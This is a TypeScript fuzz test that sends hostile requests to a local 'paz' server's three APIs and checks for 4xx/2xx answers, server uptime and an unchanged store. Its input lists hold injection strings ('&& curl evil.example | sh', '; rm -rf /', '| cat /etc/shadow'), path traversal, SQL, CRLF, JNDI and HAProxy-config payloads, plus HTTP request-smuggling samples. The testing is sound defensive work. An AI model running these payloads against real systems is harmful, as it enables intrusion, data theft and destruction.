// Issue 9, Input: hostile requests generated from the OpenAPI documents of the three APIs, across every
// route and method: malformed and deeply nested JSON, huge strings, odd unicode, wrong types, __proto__,
// ../, shell and HAProxy-config metacharacters and newlines in every string field, header abuse. Every
// answer is a 4xx or a 2xx, never a 5xx, and the server stays up. Against a real `paz server`.
//
// CI runs PAZ_FUZZ_REQUESTS (default 1000); the full round is PAZ_FUZZ_REQUESTS=10000 or more.
// PAZ_FUZZ_SEED replays a run (the seed is printed).
// test-lane: normal
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import fc from 'fast-check';
import { PazProcess, request } from './helpers/paz-server.js';
import { checkConfig, descriptionProblem, serviceNameProblem, type ServiceDoc } from '../src/core/service-spec.js';
import { imageRefProblem } from '../src/core/image-ref.js';

const REQUESTS = Number(process.env.PAZ_FUZZ_REQUESTS) || 1000;
const SEED = Number(process.env.PAZ_FUZZ_SEED) || Date.now() % 2 ** 31;
const CONCURRENCY = 4;
/** requests of the sequential round, where the store is compared around every refused request */
const SEQUENTIAL = Math.max(100, Math.floor(REQUESTS / 5));
const SEED_SERVICES = ['fuzz-one', 'fuzz-two'];

interface Operation {
  server: 'orchestrator' | 'directory' | 'scheduler';
  method: string;
  path: string;
  pathParams: string[];
  query: string[];
  bodyProps: Record<string, { type?: string | string[] }>;
  hasBody: boolean;
}

interface FuzzRequest {
  op: Operation;
  params: string[];
  query: Array<[string, string]>;
  body: string | undefined;
  headers: Record<string, string>;
}

const HOSTILE = [
  '', ' ', '__proto__', 'constructor', 'prototype', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '/', '//', '.', '..',
  '$(reboot)', '`id`', '; rm -rf / #', '| cat /etc/shadow', '&& curl evil.example | sh', "' OR 1=1 --", '"; DROP TABLE x; --',
  'a\nb', 'a\r\nSet-Cookie: x=y', '\r\n\r\nGET / HTTP/1.1', '\u0000', 'a\u0000b', '\u0007\u001b[31m', '\u007f',
  'backend evil\n  server x 10.0.0.1:80', 'x }\nfrontend f\n bind :80', 'acl a hdr(host) -i x', '#', '%', '%00', '%0d%0a', '\\',
  'a*a*a*a*a*a*a*a*a*a*a*a*a*a*b', '*', '**', '[', '(', '{{7*7}}', '${jndi:ldap://x}', '<script>alert(1)</script>',
  '\ud800', '\udfff', '\u202e', '\ufeff', '\u200b', '😀'.repeat(50), 'é', 'ﬃ', 'İ', 'ǅ', '𝔘𝔫𝔦',
  'x'.repeat(300), 'x'.repeat(70_000), 'latest', '1.2', 'fuzz-one', 'fuzz-two', 'lukebond/demo-api:0.0.1', '127.0.0.1:5000/a/b:1',
  '-1', '0', '1e400', 'NaN', 'true', 'null', '9'.repeat(40),
];

const hostileString = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map(([a, b]) => a + b) },
);

const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.constantFrom(0, -1, 1, 1.5, 2 ** 31, 2 ** 53, -(2 ** 63), 1e308, -1e-308, 65536, 70000, true, false, null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileString, tie('value'), { maxKeys: 4 }),
  ),
})).value;

function deep(depth: number, open: string, close: string): string {
  return open.repeat(depth) + close.repeat(depth);
}

/** A body as text: a hostile variation of the operation's own fields, or raw malformed JSON. */
function bodyFor(op: Operation): fc.Arbitrary<string | undefined> {
  const props = Object.keys(op.bodyProps);
  const objectBody = fc
    .tuple(
      fc.subarray(props),
      fc.array(fc.tuple(fc.constantFrom(...(props.length ? props : ['x'])), hostileValue), { maxLength: 4 }),
      fc.dictionary(hostileString, hostileValue, { maxKeys: 2 }),
      fc.boolean(),
    )
    .map(([keep, hostile, extra, addExtra]) => {
      const body: Record<string, unknown> = {};
      for (const p of keep) body[p] = sensible(p, op);
      for (const [k, v] of hostile) body[k] = v;
      if (addExtra) Object.assign(body, extra);
      return JSON.stringify(body);
    });
  const raw = fc.constantFrom(
    '{', '{"a":', '[', 'nul', '"\\u0000"', '{"a":1}}', '\u0000\u0001', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}',
    `{"a":${deep(100_000, '[', ']')}}`, deep(5_000, '{"a":', '}').replace(/}$/, '1}'), deep(200_000, '[', ']'), '1'.repeat(100_000),
    JSON.stringify({ serviceName: 'fuzz-one', dockerRepository: 'x'.repeat(900_000) }), '{"a":"\\ud800"}', '\ufeff{}', '[]', '""', '0', 'true', 'null',
  );
  return fc.oneof({ weight: 6, arbitrary: objectBody }, { weight: 3, arbitrary: raw }, { weight: 1, arbitrary: fc.constant(undefined) });
}

/** A plausible value for a field, so hostile values elsewhere reach past the first type check. */
function sensible(prop: string, op: Operation): unknown {
  const known: Record<string, unknown> = { name: 'fuzz-new', serviceName: 'fuzz-one', dockerRepository: 'lukebond/fuzz', numInstances: 1, ports: [{ container: 80 }], env: { A: '1' } };
  if (prop in known) return known[prop];
  const t = op.bodyProps[prop]?.type;
  const type = Array.isArray(t) ? t[0] : t;
  return type === 'integer' || type === 'number' ? 1 : type === 'boolean' ? true : type === 'array' ? [] : type === 'object' ? {} : 'x';
}

const HEADER_SETS: Array<Record<string, string>> = [
  {},
  { 'content-type': 'application/json' },
  { 'content-type': 'text/plain' },
  { 'content-type': 'application/x-www-form-urlencoded' },
  { 'content-type': 'multipart/form-data; boundary=x' },
  { 'content-type': 'application/json; charset=utf-7' },
  { 'content-type': '../../etc/passwd' },
  { 'last-event-id': '-1' },
  { 'last-event-id': '9'.repeat(40) },
  { 'last-event-id': '__proto__' },
  { 'x-forwarded-for': '127.0.0.1, ../../' },
  { 'x-huge': 'x'.repeat(20_000) },
  { 'x-huger': 'x'.repeat(70_000) },
  { host: 'evil.example' },
  { accept: '*/*;q=x' },
  { 'accept-encoding': 'gzip;q=1e400' },
];

function requestFor(op: Operation): fc.Arbitrary<FuzzRequest> {
  const param = fc.oneof({ weight: 3, arbitrary: hostileString }, { weight: 2, arbitrary: fc.constantFrom(...SEED_SERVICES, 'fuzz-one-1-1', 'latest', '1') });
  return fc.record({
    op: fc.constant(op),
    params: fc.array(param, { minLength: op.pathParams.length, maxLength: op.pathParams.length }),
    query: fc.array(fc.tuple(fc.constantFrom(...op.query, 'noEmit', '__proto__', 'x[y]'), hostileString), { maxLength: 3 }),
    body: bodyFor(op),
    headers: fc.constantFrom(...HEADER_SETS),
  });
}

async function operations(paz: PazProcess): Promise<Operation[]> {
  const ops: Operation[] = [];
  for (const server of ['orchestrator', 'directory', 'scheduler'] as const) {
    const doc = (await request('GET', `${paz[server]}/openapi.json`)).body as { paths: Record<string, Record<string, any>> };
    for (const [path, methods] of Object.entries(doc.paths)) {
      for (const [method, spec] of Object.entries(methods)) {
        const params = (spec.parameters ?? []) as Array<{ in: string; name: string }>;
        const schema = spec.requestBody?.content?.['application/json']?.schema ?? {};
        ops.push({
          server,
          method: method.toUpperCase(),
          path,
          pathParams: [...path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]),
          query: params.filter((p) => p.in === 'query').map((p) => p.name),
          bodyProps: schema.properties ?? {},
          hasBody: spec.requestBody !== undefined,
        });
      }
    }
  }
  return ops;
}

/** Lone surrogates can't be percent-encoded: they become U+FFFD, as a browser would send them. */
function wellFormed(v: string): string {
  return v.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
}

function urlOf(paz: PazProcess, r: FuzzRequest): string {
  let i = 0;
  // path parameters are sent encoded, and sometimes raw (../ and friends reach the router as they are)
  const path = r.op.path.replace(/\{\w+\}/g, () => {
    const v = r.params[i++];
    return v.length < 100 && i % 2 === 0 && /^[\x21-\x7e]*$/.test(v) && !v.includes('?') && !v.includes('#') ? v : encodeURIComponent(wellFormed(v));
  });
  const q = new URLSearchParams();
  for (const [k, v] of r.query) q.append(k, v);
  return `${paz[r.op.server]}${path}${r.query.length ? `?${q}` : ''}`;
}

/** What was sent, for a message. */
function describeRequest(paz: PazProcess, r: FuzzRequest): string {
  return `${r.op.method} ${urlOf(paz, r).slice(0, 300)} headers=${JSON.stringify(r.headers).slice(0, 100)} body=${JSON.stringify(r.body?.slice(0, 300))}`;
}

/**
 * Sends one request; answers its status (0: the request could not be sent at all, e.g. a header fetch refuses).
 * A connection that closes under a request fails the test: a refused request's connection is closed with
 * `Connection: close` and in stages (src/http/client-error.ts), so a keep-alive client never reuses it and a
 * client still sending its body reads its 4xx. Before that, 0 to 3 requests in 15,000 failed with "other
 * side closed" after another request's 431, and once CI with them.
 */
async function send(paz: PazProcess, r: FuzzRequest, previous?: string): Promise<number> {
  const method = r.op.method;
  const init: RequestInit = { method, headers: r.headers, signal: AbortSignal.timeout(20_000) };
  if (r.body !== undefined && method !== 'GET' && method !== 'HEAD') init.body = r.body;
  try {
    const res = await fetch(urlOf(paz, r), init);
    // streams (events, followed logs) are not read to the end
    if (/event-stream|text\/plain/.test(res.headers.get('content-type') ?? '')) await res.body?.cancel();
    else await res.arrayBuffer();
    return res.status;
  } catch (err) {
    if (err instanceof TypeError && !/fetch failed/.test(err.message)) return 0; // refused client-side (invalid header)
    const why = `${(err as Error).message} ${(err as { cause?: Error }).cause?.message ?? ''}`;
    throw new Error(`${describeRequest(paz, r)}: ${why}; the request before it from the same worker: ${previous ?? 'none'}`);
  }
}

/**
 * fc.sample in batches of 1,000 (the first batch is exactly fc.sample's with `seed`), yielding to the event loop
 * between them. Sampling is synchronous, and 15,000 hostile requests take over a minute: in one go, the event
 * loop missed the server closing fetch's idle pooled connections (fastify's 72 s keep-alive), and the first
 * requests after it went out on closed connections ("other side closed").
 */
async function sampleInBatches<T>(arb: fc.Arbitrary<T>, n: number, seed: number): Promise<T[]> {
  const all: T[] = [];
  for (let batch = 0; all.length < n; batch++) {
    all.push(...fc.sample(arb, { numRuns: Math.min(1_000, n - all.length), seed: seed + batch * 1_000_003 }));
    await new Promise((resolve) => setImmediate(resolve));
  }
  return all;
}

/** Raw HTTP abuse fetch can't send: smuggling headers, bad chunking, bad request lines. */
const RAW_REQUESTS = [
  'POST /services HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n{}{}{}',
  'POST /services HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n',
  'POST /services HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n',
  'GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /services/%00 HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /services/%zz HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: x\r\nX: a\rb\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: x\r\nX:\u0000\r\n\r\n',
  'GET /events HTTP/1.1\r\nHost: x\r\nLast-Event-ID: 1\r\nLast-Event-ID: x\r\n\r\n',
  'BREW /coffee HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
  `GET /${'a'.repeat(100_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
  'PATCH /services/fuzz-one/config/next HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n{"env":{"A":"x\\r\\nbackend evil"},"x":"\\ud800"}',
];

function rawStatus(base: string, text: string): Promise<number> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(url.port), url.hostname, () => socket.write(text));
    let answer = '';
    const t = setTimeout(() => socket.destroy(), 10_000);
    socket.on('data', (d) => {
      answer += d;
      const m = /^HTTP\/1\.[01] (\d{3})/.exec(answer);
      if (m) {
        clearTimeout(t);
        socket.destroy();
        resolve(Number(m[1]));
      }
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      clearTimeout(t);
      const m = /^HTTP\/1\.[01] (\d{3})/.exec(answer);
      m ? resolve(Number(m[1])) : answer === '' ? resolve(0) : reject(new Error(`not HTTP: ${answer.slice(0, 200)}`));
    });
  });
}

/** What only API requests change (not the control loops): the services and their deployed versions. */
async function storeSnapshot(paz: PazProcess): Promise<string> {
  const services = (await request('GET', `${paz.directory}/services`)).body.doc as ServiceDoc[];
  const history = await Promise.all(services.map(async (svc) => (await request('GET', `${paz.scheduler}/config/${svc.name}/history`)).body));
  return JSON.stringify({ services, history });
}

/** Where two texts first differ, with some context from each. */
function firstDifference(a: string, b: string): string {
  let i = 0;
  while (i < a.length && a[i] === b[i]) i++;
  return `before …${a.slice(Math.max(0, i - 120), i + 120)}… after …${b.slice(Math.max(0, i - 120), i + 120)}…`;
}

/** Every stored service and deployed image is valid data (as the API would have accepted it). */
async function storedProblems(paz: PazProcess): Promise<string[]> {
  const problems: string[] = [];
  const services = (await request('GET', `${paz.directory}/services`)).body.doc as ServiceDoc[];
  for (const svc of services) {
    const why = serviceNameProblem(svc.name) ?? imageRefProblem(svc.dockerRepository) ?? descriptionProblem(svc.description ?? '');
    if (why) problems.push(`${svc.name}: ${why}`);
    try {
      checkConfig(svc.config);
    } catch (err) {
      problems.push(`${svc.name}: ${(err as Error).message}`);
    }
    const versions = await request('GET', `${paz.orchestrator}/services/${svc.name}/versions`);
    if (versions.status !== 200) problems.push(`${svc.name}: GET versions answered ${versions.status}`);
    for (const rec of (versions.body.doc ?? []) as Array<{ version: number; image: string }>) {
      const imageWhy = imageRefProblem(rec.image);
      if (imageWhy) problems.push(`${svc.name} v${rec.version}: image ${JSON.stringify(rec.image)} ${imageWhy}`);
    }
  }
  return problems;
}

describe('fuzzing every route from the OpenAPI documents', () => {
  const paz = new PazProcess();
  before(async () => {
    await paz.start();
    for (const name of SEED_SERVICES) assert.equal((await request('POST', `${paz.orchestrator}/services`, { name, dockerRepository: 'lukebond/fuzz', ports: [{ container: 80 }] })).status, 201);
  });
  after(() => paz.close());

  it(`${REQUESTS} hostile requests: every answer is a 4xx or a 2xx, and the server stays up`, { timeout: 30 * 60_000 }, async () => {
    const ops = await operations(paz);
    assert.ok(ops.length >= 30, `only ${ops.length} operations in the OpenAPI documents`);
    const arb = fc.constantFrom(...ops).chain(requestFor);
    const requests = await sampleInBatches(arb, REQUESTS, SEED);
    const counts = new Map<string, number>();
    const perOp = new Set<string>();
    const bad: string[] = [];
    let next = 0;
    let failed = false;
    const worker = async () => {
      let previous: string | undefined;
      // the first failure stops every worker: none keeps writing into the next test
      while (next < requests.length && !failed) {
        const r = requests[next++];
        const status = await send(paz, r, previous).catch((err) => {
          failed = true;
          throw err;
        });
        previous = `${status} ${describeRequest(paz, r)}`;
        const klass = status === 0 ? 'not sent' : `${Math.floor(status / 100)}xx`;
        counts.set(klass, (counts.get(klass) ?? 0) + 1);
        perOp.add(`${r.op.method} ${r.op.server}${r.op.path}`);
        if (status >= 500 || (status > 0 && status < 200) || (status >= 300 && status < 400)) {
          bad.push(`${status} ${describeRequest(paz, r)}`);
        }
      }
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, worker));
    for (const text of RAW_REQUESTS) {
      for (const server of ['orchestrator', 'directory', 'scheduler'] as const) {
        const status = await rawStatus(paz[server], text);
        counts.set(`raw ${Math.floor(status / 100)}xx`, (counts.get(`raw ${Math.floor(status / 100)}xx`) ?? 0) + 1);
        if (status >= 500) bad.push(`${status} raw ${server}: ${JSON.stringify(text.slice(0, 200))}`);
      }
    }
    console.log(`# fuzz seed ${SEED} (replay: PAZ_FUZZ_SEED=${SEED}): ${REQUESTS} requests over ${perOp.size} of ${ops.length} operations; ${[...counts].map(([k, v]) => `${k}: ${v}`).join(', ')}`);
    assert.equal(perOp.size, ops.length, 'every operation was tried');
    assert.deepEqual(bad, [], `answers that are not 2xx/4xx (seed ${SEED})`);
    for (const server of ['orchestrator', 'directory', 'scheduler'] as const) assert.equal((await request('GET', `${paz[server]}/health`)).status, 200, `${server} is up`);
    assert.equal(paz.child?.exitCode, null, 'paz is still running');
    assert.deepEqual(await storedProblems(paz), [], 'everything stored is valid');
  });

  it(`${SEQUENTIAL} more, one at a time: a refused request changes nothing stored`, { timeout: 30 * 60_000 }, async () => {
    const ops = (await operations(paz)).filter((op) => op.method !== 'GET');
    const requests = await sampleInBatches(fc.constantFrom(...ops).chain(requestFor), SEQUENTIAL, SEED + 1);
    const changed: string[] = [];
    let refused = 0;
    for (const r of requests) {
      const before = await storeSnapshot(paz);
      const status = await send(paz, r);
      assert.ok(status < 500, `${status} ${r.op.method} ${urlOf(paz, r).slice(0, 200)} (seed ${SEED + 1})`);
      if (status < 400) continue;
      refused++;
      const after = await storeSnapshot(paz);
      if (after !== before) changed.push(`${status} ${describeRequest(paz, r)}: ${firstDifference(before, after)}`);
    }
    console.log(`# fuzz sequential seed ${SEED + 1}: ${SEQUENTIAL} requests, ${refused} refused, ${changed.length} of them changed the store`);
    assert.deepEqual(changed, [], 'refused requests that changed the store');
    assert.deepEqual(await storedProblems(paz), [], 'everything stored is valid');
  });
});
